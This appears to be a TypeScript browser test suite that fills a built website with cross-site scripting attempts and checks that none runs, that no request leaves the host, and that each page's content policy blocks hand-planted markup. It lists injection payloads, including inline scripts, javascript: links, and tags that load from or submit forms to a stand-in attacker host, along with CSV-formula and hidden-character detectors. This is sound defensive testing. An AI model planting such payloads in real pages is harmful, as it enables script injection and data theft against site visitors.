/**
 * Builds one site of nothing but attempts to run code, past the check that would refuse it, and opens every page of it in a real
 * browser: nothing runs, nothing leaves the host. What somebody plants by hand in a built page is stopped by its policy.
 */
import { mkdir, mkdtemp, readFile, rm } from 'node:fs/promises';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { Parser } from 'htmlparser2';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { contentKinds, siteSchema } from '#schema';
import { projectRoot } from '../../scripts/command.ts';
import { listFiles } from '../../scripts/build/output-folder.ts';
import { launchBrowser } from '../browser/launch-browser.ts';
import { buildSite } from '../site/build-site.ts';
import { serveSite, type Server } from '../site/serve-site.ts';
import { listTextFields, readTextFields } from './text-fields.ts';
import { evilHost, vectors } from './vectors.ts';
import { writeTrap, type Written } from './write-trap.ts';

let folder = '';
let site = '';
let written: readonly Written[] = [];
let files: readonly string[] = [];
let browser: Browser;
let server: Server;

/** What happened in a browser since it was asked last. */
interface Watch {
  readonly context: BrowserContext;
  readonly ran: Set<string>;
  readonly left: Set<string>;
  readonly violations: string[];
}

/** A browser window in which `canary`, dialogs, windows and requests to other hosts are written down; such requests get no answer. */
async function watch(): Promise<Watch> {
  const context = await browser.newContext({ serviceWorkers: 'block' });
  const ran = new Set<string>();
  const left = new Set<string>();
  const violations: string[] = [];
  await context.exposeFunction('canary', (number: unknown) => void ran.add(String(number)));
  await context.exposeFunction('tellViolation', (what: unknown) => void violations.push(String(what)));
  await context.addInitScript(
    `addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => tellViolation(effectiveDirective + ' ' + blockedURI));`,
  );
  await context.route(
    (url) => url.origin !== server.origin && /^https?:$/.test(url.protocol),
    (route) => {
      left.add(route.request().url());
      return route.abort();
    },
  );
  context.on('dialog', (dialog) => {
    ran.add(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on('page', (page) => {
    page.on('popup', (popup) => void ran.add(`window ${popup.url()}`));
  });
  return { context, ran, left, violations };
}

beforeAll(async () => {
  await mkdir(path.join(projectRoot, '.cache'), { recursive: true });
  folder = await mkdtemp(path.join(projectRoot, '.cache/hostile-'));
  site = path.join(folder, 'site');
  written = await writeTrap(path.join(folder, 'root'));
  await buildSite(path.join(folder, 'root'), site);
  files = listFiles(site).sort();
  server = await serveSite(site, '/', { asHost: true });
  browser = await launchBrowser();
}, 600_000);

afterAll(async () => {
  await browser.close();
  await server.close();
  await rm(folder, { recursive: true, force: true });
});

const pages = () => files.filter((file) => file.endsWith('.html'));
const addressOf = (file: string) => `${server.origin}/${file.replace(/(?:^|(?<=\/))index\.html$/, '')}`;

/** What a page holds that it did not get from the program; runs in the browser. */
const findForeign = `(() => {
  const found = [];
  const isOwn = (address) => address === '' || new URL(address, location.href).origin === location.origin;
  for (const element of document.querySelectorAll('*')) {
    const name = element.localName;
    if (['iframe', 'object', 'embed', 'base', 'frameset', 'applet', 'portal', 'math', 'video', 'audio', 'marquee'].includes(name)) found.push(name);
    if (name === 'script' && element.type !== 'application/ld+json' && !(element.src !== '' && isOwn(element.src))) found.push('script ' + element.outerHTML.slice(0, 100));
    if (name === 'style') found.push('style');
    if (name === 'meta' && element.httpEquiv === 'refresh' && !isOwn(element.content.replace(/^.*url=/, ''))) found.push(element.outerHTML);
    for (const { name: attribute, value } of element.attributes) {
      if (/^on/i.test(attribute)) found.push(name + ' ' + attribute);
      if (attribute === 'style') found.push(name + ' style');
      const address = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcset', 'poster', 'ping', 'background'].includes(attribute);
      if (address && !/^(?:https?:|mailto:)/.test(new URL(value, location.href).protocol)) found.push(name + ' ' + attribute + ' ' + value);
      const loads = attribute !== 'href' || name === 'use' || name === 'image' || (name === 'link' && !/^(?:canonical|alternate)/.test(element.rel));
      if (address && attribute !== 'action' && loads && !isOwn(value)) found.push(name + ' loads ' + value);
    }
  }
  return found;
})()`;

describe('the attempts', () => {
  test('stand in every text of every schema', () => {
    const schemas = {
      ...Object.fromEntries(Object.entries(contentKinds).map(([kind, { schema }]) => [kind, schema])),
      site: siteSchema,
    };
    for (const [kind, schema] of Object.entries(schemas)) {
      const own = written.filter((each) => each.kind === kind);
      const held = new Set(own.flatMap(({ fields }) => [...readTextFields(fields)]));
      const missing = listTextFields(schema).filter((field) => !held.has(field));
      expect([kind, missing]).toEqual([kind, []]);
    }
  });

  test('run code and leave the host where nothing stops them', { timeout: 120_000 }, async () => {
    const { context, ran, left } = await watch();
    const page = await context.newPage();
    const alone = vectors.filter(({ group }) =>
      ['handler', 'spelling', 'script', 'trick', 'load', 'end'].includes(group),
    );
    await page.goto(`${server.origin}/robots.txt`);
    await page.setContent(
      alone
        .map(({ text }) => `<iframe srcdoc="${text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`)
        .join(''),
      { waitUntil: 'load' },
    );
    await page.waitForTimeout(500);
    expect(await page.evaluate(findForeign)).toContain('iframe');
    await context.close();
    expect(ran.size).toBeGreaterThan(80);
    expect(left.size).toBeGreaterThan(15);
  });
});

test('no page runs any of them, and no request leaves the host', { timeout: 600_000 }, async () => {
  expect(pages().length).toBeGreaterThan(60);
  const { context, ran, left, violations } = await watch();
  const page = await context.newPage();
  for (const file of pages().filter((name) => !name.startsWith('admin/'))) {
    await page.goto(addressOf(file), { waitUntil: 'load' });
    expect([file, await page.evaluate(findForeign)]).toEqual([file, []]);
  }
  for (const file of files.filter((name) => /\.(?:xml|svg|json)$/.test(name)))
    await page.goto(`${server.origin}/${file}`, { waitUntil: 'load' });
  await context.close();
  expect([...ran]).toEqual([]);
  expect([...left]).toEqual([]);
  expect(violations).toEqual([]);
});

test('the form of editors runs none of them either', { timeout: 120_000 }, async () => {
  const { context, ran, left } = await watch();
  const page = await context.newPage();
  await page.goto(`${server.origin}/admin/`, { waitUntil: 'load' });
  await page.getByRole('button').first().waitFor();
  await context.close();
  expect([...ran]).toEqual([]);
  // The editor asks how its forge is.
  expect([...left].filter((address) => address.includes(evilHost))).toEqual([]);
});

/** One attempt of each kind, for places that take long to look at. */
const samples = [...Map.groupBy(vectors, ({ group }) => group).values()].flatMap((group) =>
  group.slice(0, 1).map(({ text }) => text),
);

test('no address runs code: of the search, the table, a layer, an anchor', { timeout: 600_000 }, async () => {
  const { context, ran, left, violations } = await watch();
  const page = await context.newPage();
  for (const text of samples) {
    const value = encodeURIComponent(text);
    for (const address of [
      `search/?q=${value}&kind=${value}&actor=${value}&sort=${value}`,
      `stories/trap/?q=${value}&verdict=${value}&kind=${value}&actor=${value}&source=${value}&state=${value}&sort=${value}&fold=${value}#${value}`,
    ]) {
      await page.goto(`${server.origin}/${address}`, { waitUntil: 'load' });
      expect(await page.evaluate(findForeign)).toEqual([]);
    }
  }
  // Results are made by a script from the records.
  await page.goto(`${server.origin}/search/?q=canary`, { waitUntil: 'load' });
  await page.locator('main li a').first().waitFor();
  expect(await page.evaluate(findForeign)).toEqual([]);
  await context.close();
  expect([...ran]).toEqual([]);
  expect([...left]).toEqual([]);
  expect(violations).toEqual([]);
});

/** What somebody who can write into a built page might put there. */
const planted = [
  `<img src=https://${evilHost}/planted.png>`,
  '<script>canary("inline")</script>',
  '<script type=module>canary("module")</script>',
  `<script src=https://${evilHost}/planted.js></script>`,
  '<script src="data:text/javascript,canary(0)"></script>',
  '<iframe srcdoc="<script>parent.canary(0)</script>"></iframe>',
  `<iframe src=https://${evilHost}/frame></iframe>`,
  `<object data=https://${evilHost}/object></object>`,
  `<link rel=stylesheet href=https://${evilHost}/style.css>`,
  `<style>@import "https://${evilHost}/import.css"; body { background: url(https://${evilHost}/back.png) }</style>`,
  `<base href=https://${evilHost}/>`,
  '<a id=planted-link href="javascript:canary(\'link\')">x</a>',
  `<form id=planted-form action=https://${evilHost}/form><button>x</button></form>`,
  ...vectors
    .filter(({ group }) => ['handler', 'spelling', 'load'].includes(group))
    .map(({ text }) => `<div>${text}</div></svg></style></script>`),
].join('\n');

async function openPlanted(page: Page, file: string): Promise<void> {
  const html = await readFile(path.join(site, file), 'utf8');
  expect(html).toContain('</body>');
  await page.route(addressOf(file), (route) =>
    route.fulfill({
      contentType: 'text/html; charset=utf-8',
      body: html.replace('</body>', () => `${planted}</body>`),
    }),
  );
  await page.goto(addressOf(file), { waitUntil: 'load' });
  await page.evaluate(
    `document.getElementById('planted-link')?.click(); document.getElementById('planted-form')?.requestSubmit()`,
  );
}

/** What the policy of each page speaks of. */
const stopped = [
  'base-uri',
  'form-action',
  'frame-src',
  'img-src',
  'script-src-attr',
  'script-src-elem',
  'style-src-elem',
];

test('the policy of a page stops what is planted in it by hand', { timeout: 600_000 }, async () => {
  const kinds = new Map(pages().map((file) => [file.replace(/(?<=\/)[^/]+\/index\.html$/, ''), file]));
  const chosen = [...kinds.values()].filter((file) => !file.startsWith('admin/'));
  expect(chosen.length).toBeGreaterThan(15);
  for (const file of chosen) {
    const { context, ran, left, violations } = await watch();
    await openPlanted(await context.newPage(), file);
    // The browser tells of violations when it has time.
    const listDirectives = () => [...new Set(violations.map((line) => line.split(' ')[0]))];
    await expect.poll(listDirectives, { timeout: 10_000 }).toEqual(expect.arrayContaining(stopped));
    await context.close();
    expect([file, [...ran], [...left]]).toEqual([file, [], []]);
  }
});

describe('files for other programs', () => {
  const read = (file: string) => readFile(path.join(site, file), 'utf8');

  test('no cell of a table is a formula', async () => {
    const tables = files.filter((file) => file.endsWith('.csv'));
    expect(tables.length).toBeGreaterThan(8);
    for (const file of tables) {
      const rows: readonly (readonly string[])[] = parse(await read(file), { relax_column_count: true });
      const cells = rows
        .flat()
        .filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell));
      expect([file, cells]).toEqual([file, []]);
    }
  });

  test('feeds hold words and no markup, also for readers that take them for HTML', async () => {
    const feeds = files.filter((file) => file.endsWith('.xml'));
    expect(feeds).toContain('feed.xml');
    for (const file of feeds) {
      const texts: string[] = [];
      const names = new Set<string>();
      const xml = new Parser(
        { onopentag: (name) => void names.add(name), ontext: (text) => void texts.push(text) },
        { xmlMode: true, decodeEntities: true },
      );
      xml.end(await read(file));
      expect([...names].filter((name) => /^(?:.*:)?(?:script|img|svg|iframe)$/.test(name))).toEqual([]);
    }
    const descriptions = [...(await read('feed.xml')).matchAll(/<item>.*?<description>(.*?)<\/description>/g)];
    expect(descriptions.length).toBeGreaterThan(5);
    for (const [, once = ''] of descriptions) {
      const html = once
        .replaceAll('&lt;', '<')
        .replaceAll('&gt;', '>')
        .replaceAll('&quot;', '"')
        .replaceAll('&amp;', '&');
      expect(html).not.toMatch(/<[a-z!/?]/i);
    }
    for (const file of files.filter((name) => name.endsWith('.json'))) {
      const json = await read(file);
      expect(() => JSON.parse(json)).not.toThrow();
    }
  });

  test('structured data and scripts in pages end where they should', async () => {
    let blocks = 0;
    for (const file of pages()) {
      const html = await read(file);
      for (const [, json = ''] of html.matchAll(/<script type="application\/ld\+json">(.*?)<\/script>/gs)) {
        expect(() => JSON.parse(json)).not.toThrow();
        expect(json).not.toMatch(/<[!/a-z]/i);
        blocks += 1;
      }
    }
    expect(blocks).toBeGreaterThan(20);
  });

  test('nothing that reorders or hides text reaches a file', async () => {
    const reordering = /[\u202A-\u202E\u2066-\u2069\0]/;
    for (const file of files.filter((name) => /\.(?:html|xml|csv|json|txt)$/.test(name)))
      expect([file, reordering.exec(await read(file))?.index]).toEqual([file, undefined]);
  });
});
